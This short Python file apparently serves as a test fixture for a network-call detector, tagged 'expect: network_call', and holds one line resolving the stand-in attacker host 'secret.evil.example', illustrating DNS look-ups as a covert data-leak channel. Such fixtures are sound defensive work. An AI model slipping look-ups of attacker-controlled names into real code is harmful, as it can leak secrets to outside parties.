# A look-up of a name tells whoever answers it.
# expect: network_call
import socket

socket.gethostbyname("secret.evil.example")
